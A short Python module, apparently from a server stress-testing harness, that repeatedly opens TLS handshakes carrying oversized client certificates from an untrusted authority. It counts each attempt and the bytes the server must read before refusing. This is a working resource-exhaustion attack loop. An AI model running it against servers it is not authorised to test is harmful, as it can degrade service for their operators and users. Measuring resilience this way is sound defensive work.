"""TLS clients with certificates of many kilobytes, which the server reads before it can refuse them. An event
is a handshake, or an attempt at one."""

from __future__ import annotations

import ssl
from collections.abc import Iterator

import trustme

from .attacker import Target, trusting_all, until_answered

_NAME = "a-name-of-some-length-{}.example"


def attack(target: Target, names: int) -> Iterator[tuple[int, int]]:
    """Shake hands with a certificate for so many names, of an authority that the server does not know."""
    context = trusting_all()
    size = _load_certificate(context, names)
    yield 0, 0
    while True:
        sock = target.connect()
        try:
            with context.wrap_socket(sock, server_hostname="server.example") as shaken:
                until_answered(shaken)
        except OSError:  # it is refused
            sock.close()
        yield 1, size


def _load_certificate(context: ssl.SSLContext, names: int) -> int:
    """Make a certificate for `context`; return its size in bytes."""
    issued = trustme.CA().issue_cert(*map(_NAME.format, range(names)))
    issued.configure_cert(context)
    return len(ssl.PEM_cert_to_DER_cert(issued.cert_chain_pems[0].bytes().decode()))
